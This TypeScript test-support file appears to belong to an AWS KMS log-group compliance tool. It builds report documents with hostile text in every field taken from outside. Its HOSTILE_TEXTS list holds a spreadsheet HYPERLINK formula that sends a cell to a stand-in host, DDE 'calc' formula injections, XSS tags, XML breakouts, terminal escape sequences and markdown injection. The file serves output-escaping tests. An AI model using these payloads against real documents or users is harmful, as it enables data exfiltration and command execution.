import type { Finding } from '../../lib/domain/finding.ts';
import type { KeyCheck } from '../../lib/domain/key-check.ts';
import type { Outcome, Step } from '../../lib/domain/plan-step.ts';
import { problem } from '../../lib/domain/reasons.ts';
import { summaryOf } from '../../lib/domain/summary.ts';
import type { TemplateFinding } from '../../lib/domain/template/finding.ts';
import type { CheckedKey, LogGroupVerdict } from '../../lib/report/documents.ts';
import { A_RUN, aFinding, aLogGroup, anOutcome, aReport, aStep } from '../support/builders.ts';
import { aLogGroupVerdict, outcomeTotals, planTotals, scanTotals, written } from './builders.ts';

/** Is in every hostile text, so that what is left of one can be found. */
export const TRACE = 'EVIL';

/** Texts that do harm where a document takes them for more than text. None of them is a name that AWS allows. */
export const HOSTILE_TEXTS: readonly string[] = [
  `=HYPERLINK("https://${TRACE}.example/?"&A1,"${TRACE}")`,
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', 'x;=', 'x; @'].map(
    (start) => `${start}${TRACE}|'/C calc'!A0`,
  ),
  `<script>${TRACE}</script><img src=x onerror=${TRACE}>`,
  `"' onload='${TRACE}' x="</failure></testcase>]]><![CDATA[${TRACE}]]>&${TRACE};&#0;`,
  `\u001b[31m${TRACE}\u001b]8;;https://${TRACE}\u0007\u009b2J\u0000\u0008\u007f`,
  `\u202e${TRACE}\u2066\u200b\ufeff\u2028\u2029`,
  `\ud800${TRACE}\udc00\ufffe\uffff`,
  `\`${TRACE}\` | **${TRACE}** | [${TRACE}](https://${TRACE}) ![${TRACE}](https://${TRACE}/x.png) ~~${TRACE}~~ $${TRACE}$ \\| \\\``,
  `\`\`\`\n# ${TRACE}\n\n- [ ] @${TRACE} #1 https://${TRACE}.example www.${TRACE}.example me@${TRACE}.example\n\`\`\`\`\`mermaid\n${TRACE}`,
  `{0} {{${TRACE}}} [${TRACE}](0) %s \${${TRACE}}`,
  `${TRACE}${'/x'.repeat(254)}`,
  `${TRACE}${'😀'.repeat(2_000)}`,
];

/** Documents that have a hostile text wherever a text comes from outside, by what they are called. */
export function hostileDocuments(format: string, kinds: readonly string[], text: string): readonly string[] {
  return kinds.flatMap((kind) => {
    const write = WRITE[kind];
    return write ? [write(format, text)] : [];
  });
}

const WRITE: Readonly<Record<string, (format: string, text: string) => string>> = {
  scan(format, text) {
    const findings = hostileFindings(text);
    const exemption = {
      id: text,
      reason: text,
      owner: text,
      expires: text,
      stores: 1,
      notices: ['UNMATCHED'] as const,
    };
    return written(
      'scan',
      format,
      [findings],
      scanTotals(findings, { targets: [hostileTarget(text)], exemptions: [exemption] }),
    );
  },
  plan: (format, text) => written('plan', format, [hostileSteps(text)], planTotals({ targets: [hostileTarget(text)] })),
  outcome: (format, text) =>
    written('outcome', format, [hostileOutcomes(text)], outcomeTotals({ targets: [hostileTarget(text)] })),
  'key-check': (format, text) =>
    written('key-check', format, [[hostileCheck(text)]], { run: A_RUN, key: { configured: text } }),
  'policy-verdict'(format, text) {
    const { logGroupArn: _, ...verdict } = hostileVerdict(text);
    return written('policy-verdict', format, [], verdict, { policy: { file: text, text: '{}', subject: text } });
  },
  'policy-verdicts': (format, text) =>
    written('policy-verdicts', format, [[hostileVerdict(text)]], {}, { policy: { file: text, text, subject: text } }),
  template(format, text) {
    const findings = hostileTemplateFindings(text);
    const note = { file: text, line: 3, message: text };
    return written('template', format, [findings], {
      summary: summaryOf(findings),
      files: 1,
      mistakes: [note, { ...note, line: null }],
      warnings: [note],
    });
  },
};

const hostileTarget = (text: string) =>
  aReport({ status: 'FAILED', error: { code: 'ACCESS_DENIED', message: text }, stores: 3 });

function hostileFindings(text: string): Finding[] {
  const store = { ...aLogGroup(text), keyArn: `arn:aws:kms:eu-west-1:111122223333:key/${text}` };
  const reasons = [problem('KEY_DISABLED', text, text), problem('KEY_WRONG_USAGE', text, text)];
  const warnings = [problem('KEY_POLICY_DENIES', text, text)];
  const exemption = { id: text, reason: text, owner: text, expires: text };
  return [
    aFinding({ ...store, reasons, warnings, severity: 'HIGH' }),
    aFinding({ ...store, reasons, status: 'UNKNOWN', keyArn: text }),
    aFinding({ ...store, reasons, warnings, status: 'EXEMPT', exemption }),
    aFinding({ ...store, reasons: [], warnings, status: 'COMPLIANT', severity: null }),
  ];
}

function hostileTemplateFindings(text: string): TemplateFinding[] {
  const reasons = [problem('KEY_POLICY_MISSING_ACTIONS', text, `add:\n${text}`)];
  const finding: TemplateFinding = {
    ...{ file: text, line: 3, id: text, type: 'log-group', name: text, key: { id: text, arn: text } },
    ...{ status: 'NON_COMPLIANT', severity: 'HIGH', reasons, verdict: 'MISSING_ACTIONS', exemption: null },
    warnings: [problem('KEY_POLICY_PUBLIC', text, text)],
  };
  return [
    finding,
    { ...finding, status: 'EXEMPT', exemption: { id: text, reason: text, owner: text, expires: text } },
    { ...finding, line: null, name: null, status: 'UNKNOWN' },
  ];
}

function hostileSteps(text: string): Step[] {
  const refusal = problem('ACCESS_DENIED', text, text);
  const warnings = [problem('MANAGED_BY_CLOUDFORMATION', text, text)];
  return [
    aStep({ name: text, toKeyArn: text, warnings }),
    aStep({ name: text, action: 'NONE', fromKeyArn: text, refusal }),
  ];
}

function hostileOutcomes(text: string): Outcome[] {
  const refusal = problem('ACCESS_DENIED', text, text);
  return [
    anOutcome({ name: text, toKeyArn: text, fromKeyArn: text, afterRun: { status: 'CHANGED', keyArn: text } }),
    anOutcome({ name: text, outcome: 'FAILED', error: { code: text, message: text } }),
    anOutcome({ name: text, action: 'NONE', outcome: 'REFUSED', refusal }),
  ];
}

function hostileCheck(text: string): CheckedKey {
  const check = { check: 'KEY_POLICY', action: text, code: 'KEY_POLICY_DENIES', message: text, fix: text } as const;
  const checks: KeyCheck[] = [
    { ...check, result: 'FAIL' },
    { ...check, result: 'UNKNOWN', fix: `${text}!` },
  ];
  return {
    store: aLogGroup(text),
    keyArn: text,
    checks,
    note: text,
    readersAndWriters: { access: 'NOT_KNOWN', message: text, fix: text },
    warnings: [problem('KEY_POLICY_PUBLIC', text, text)],
    problems: [{ code: 'CHARACTERS', statement: null, message: text, fix: text }],
    apiCalls: {},
  };
}

function hostileVerdict(text: string): LogGroupVerdict {
  const verdict = aLogGroupVerdict('/a');
  const statement = { index: 0, sid: text };
  const effect = { effect: 'EXPLICIT_DENY', statement, because: text } as const;
  return {
    ...verdict,
    logGroupArn: text,
    verdict: 'DENIED',
    denyingStatement: 0,
    actions: { 'kms:Encrypt': effect },
    problems: [{ code: 'CHARACTERS', statement, message: text, fix: text }],
    warnings: [{ code: 'UNDOCUMENTED_RULE', severity: 'MEDIUM', message: text }],
  };
}
